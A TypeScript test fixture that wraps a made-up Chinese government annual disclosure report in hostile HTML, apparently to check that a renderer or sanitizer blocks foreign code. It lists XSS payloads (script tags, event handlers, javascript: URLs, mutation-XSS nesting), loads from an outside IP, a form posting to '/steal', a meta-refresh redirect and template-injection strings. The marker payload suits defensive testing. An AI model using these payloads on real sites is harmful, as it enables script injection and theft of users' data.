import { madeUpReport } from '../made-up-report.ts'

/** What each trick of the document would leave in a window where it ran. */
export const mark = 'ranForeignCode'

const run = `window.${mark}=1;top.${mark}=1;parent.${mark}=1;document.title='${mark}'`
const elsewhere = 'http://198.51.100.7'

const tricks = [
  `<script>${run}</script>`,
  `<script src="${elsewhere}/a.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${elsewhere}/pixel.png">`,
  `<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}"><text y="20">svg</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe><iframe src="javascript:${run}"></iframe>`,
  `<object data="javascript:${run}"></object><embed src="${elsewhere}/a.swf">`,
  `<a href="javascript:${run}" id="trap">点击这里</a>`,
  `<form action="${elsewhere}/steal"><input name="q" autofocus onfocus="${run}"><button>提交</button></form>`,
  `<details open ontoggle="${run}"><summary>更多</summary></details>`,
  `<video><source onerror="${run}"></video><audio src=x onerror="${run}"></audio>`,
  `<style>@import "${elsewhere}/a.css"; * { background: url("${elsewhere}/b.png") }</style>`,
  `<div style="background:url(${elsewhere}/c.png);position:fixed;inset:0;z-index:9" onclick="${run}">盖住一切</div>`,
  '<template><script>1</script></template><noscript><p title="</noscript><img src=x onerror=1>"></noscript>',
]

/** A report as a web page that tries whatever a page can try. */
export function hostilePage(agency: string, year: number): string {
  const lines = madeUpReport(agency, year).split('\n')
  const body = lines.map(
    (line, index) => `<p onmouseover="${run}">${line}</p>${tricks[index % tricks.length]}`,
  )
  return [
    '<!doctype html><html onclick="',
    run,
    `"><head><meta charset="utf-8"><base href="${elsewhere}/"><meta http-equiv="refresh" content="0;url=${elsewhere}/">`,
    `<title>${agency}${year}年政府信息公开工作年度报告</title>`,
    `<link rel="stylesheet" href="${elsewhere}/d.css"></head><body onload="${run}">`,
    ...body,
    '</body></html>',
  ].join('')
}

/** The same tricks as words of a plain text: in its title, the name of its agency and its sections. */
export function hostileText(year: number): string {
  const [image = ''] = tricks.slice(2)
  return madeUpReport('云溪县{{7*7}}<b>局</b>', year)
    .replace('全年没有收到', `${image}全年没有收到`)
    .replace('栏目更新', `</textarea></script>${tricks[0]}栏目更新`)
}
